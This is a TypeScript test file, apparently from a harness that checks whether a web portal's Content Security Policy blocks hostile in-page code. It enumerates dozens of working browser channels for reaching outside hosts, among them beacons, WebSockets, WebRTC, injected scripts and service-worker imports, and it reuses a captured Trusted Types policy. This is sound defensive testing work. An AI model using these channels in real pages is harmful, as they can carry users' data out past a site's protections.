import type { Attempt } from './attempt.ts';

/**
 * What hostile code in the page can try. This text runs in the browser (see `attempt-code.ts`), in the page's own world.
 *
 * The evaluation itself evades one protection, on purpose: as a script that came before the portal's would, it has taken
 * the portal's Trusted Types policy for HTML (see `stolen-policy.ts`), so that Trusted Types alone stop nothing here and
 * the policies behind them must. It does not evade the network: browsers apply the page's policies to what evaluated code
 * asks for. What it does count as is a press of a key, which lets pop-ups through.
 */
const stolen = (globalThis as { stolenPolicies?: Record<string, TrustedTypePolicy> }).stolenPolicies ?? {};

/** Puts markup into the page as its parser would, scripts included. */
function insert(markup: string): void {
  const html = stolen['svelte-trusted-html']?.createHTML(markup) ?? markup;
  document.body.append(document.createRange().createContextualFragment(html as string));
}

function element(name: string, attributes: Record<string, string>): HTMLElement {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  return made;
}

const link = (attributes: Record<string, string>) => {
  document.head.append(element('link', attributes));
};

/** A worker that holds nothing but this code, whichever of the two ways to write it down is let through. */
function workerOf(code: string, type: WorkerType): void {
  const addresses = [
    URL.createObjectURL(new Blob([code], { type: 'text/javascript' })),
    `data:text/javascript,${encodeURIComponent(code)}`,
  ];
  for (const address of addresses) {
    try {
      new Worker(address, { type });
    } catch {
      continue;
    }
  }
}

/** No such name exists (RFC 6761, 6.4); the browser's own log tells whether it was asked for. */
export const NAMES = '.invalid';

export const pageAttempts: Readonly<Record<string, Attempt>> = {
  fetch: ({ url }) => fetch(url, { mode: 'no-cors' }),
  'fetch over TLS': ({ host, token }) => fetch(`https://${host}/${token}`, { mode: 'no-cors' }),
  'fetch keepalive': ({ url }) => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
  fetchLater: ({ url }) =>
    (globalThis as unknown as { fetchLater: (url: string, options: object) => unknown }).fetchLater(url, {
      activateAfter: 0,
    }),
  XMLHttpRequest: ({ url }) => {
    const asked = new XMLHttpRequest();
    asked.open('POST', url);
    asked.send('x');
  },
  sendBeacon: ({ url }) => navigator.sendBeacon(url, 'x'),
  WebSocket: ({ host, token }) => new WebSocket(`ws://${host}/${token}`),
  EventSource: ({ url }) => new EventSource(url),
  WebTransport: ({ host, token }) => new WebTransport(`https://${host}/${token}`).ready,
  image: ({ url }) => {
    new Image().src = url;
  },
  'CSS background': ({ url }) => {
    const painted = element('p', {});
    painted.textContent = 'x';
    painted.style.backgroundImage = `url(${url})`;
    document.body.append(painted);
  },
  'constructed stylesheet': ({ url }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background-image: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  FontFace: ({ url }) => new FontFace('attempt', `url(${url})`).load(),
  video: ({ url }) => {
    const video = document.createElement('video');
    video.preload = 'auto';
    video.src = url;
    document.body.append(video);
  },
  audio: ({ url }) => {
    new Audio(url).load();
  },
  script: ({ url }) => {
    insert(`<script src="${url}"></script>`);
  },
  'script with integrity': ({ url }) => {
    insert(
      `<script src="${url}" crossorigin integrity="sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="></script>`,
    );
  },
  'script with nonce': ({ url }) => {
    insert(`<script nonce="attempt" src="${url}"></script>`);
  },
  'dynamic import': ({ url }) => import(url),
  'stylesheet link': ({ url }) => {
    link({ rel: 'stylesheet', href: url });
  },
  preload: ({ url }) => {
    link({ rel: 'preload', as: 'fetch', href: url });
  },
  modulepreload: ({ url }) => {
    link({ rel: 'modulepreload', href: url });
  },
  preconnect: ({ url }) => {
    link({ rel: 'preconnect', href: url });
  },
  'dns-prefetch': ({ token }) => {
    link({ rel: 'dns-prefetch', href: `http://${token}${NAMES}/` });
  },
  'speculation rules': ({ url }) => {
    const list = JSON.stringify([{ source: 'list', urls: [url], eagerness: 'immediate' }]);
    insert(`<script type="speculationrules">{"prefetch": ${list}, "prerender": ${list}}</script>`);
  },
  'manifest link': ({ url }) => {
    for (const other of document.querySelectorAll('link[rel=manifest]')) other.remove();
    link({ rel: 'manifest', href: url });
  },
  'icon link': ({ url }) => {
    for (const other of document.querySelectorAll('link[rel=icon]')) other.remove();
    link({ rel: 'icon', href: url });
  },
  iframe: ({ url }) => {
    insert(`<iframe src="${url}"></iframe>`);
  },
  object: ({ url }) => {
    insert(`<object data="${url}" type="text/html"></object>`);
  },
  embed: ({ url }) => {
    insert(`<embed src="${url}" type="text/html">`);
  },
  // A browser refuses a script of another origin as a worker in any page; so the worker is our own, and its module is not.
  'worker from another origin': ({ url }) => {
    workerOf(`import '${url}';`, 'module');
  },
  WebRTC: async ({ host }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel('attempt');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'anchor ping': ({ url }) => {
    const anchor = element('a', { href: '#attempt', ping: url });
    document.body.append(anchor);
    anchor.click();
  },
};

/** Those that may take the page away, or change what it is: each is made in a page of its own. */
export const leavingAttempts: Readonly<Record<string, Attempt>> = {
  'form submit': ({ url }) => {
    const form = element('form', { action: url, method: 'post' }) as HTMLFormElement;
    document.body.append(form);
    form.submit();
  },
  'window.open': ({ url }) => window.open(url),
  'meta refresh': ({ url }) => {
    document.head.append(element('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }));
  },
  location: ({ url }) => {
    location.href = url;
  },
  // Firefox waits until nothing else is being loaded.
  prefetch: ({ url }) => {
    link({ rel: 'prefetch', href: url });
  },
  // The hostile build's service worker imports what its own address names.
  'service worker importScripts': ({ url }) => {
    const address = new URL(`/service-worker.js?import=${encodeURIComponent(url)}`, location.href).href;
    const script = stolen['lintel-script-url']?.createScriptURL(address) ?? address;
    return navigator.serviceWorker.register(script as string, { scope: '/attempt/' });
  },
  'report endpoint': ({ url }) => {
    // Nobody asks for it in the page's header, so this is how a script would.
    document.head.append(
      element('meta', { 'http-equiv': 'Content-Security-Policy', content: `font-src 'none'; report-uri ${url}` }),
    );
    return new FontFace('reported', 'url(/attempted.woff2)').load();
  },
};
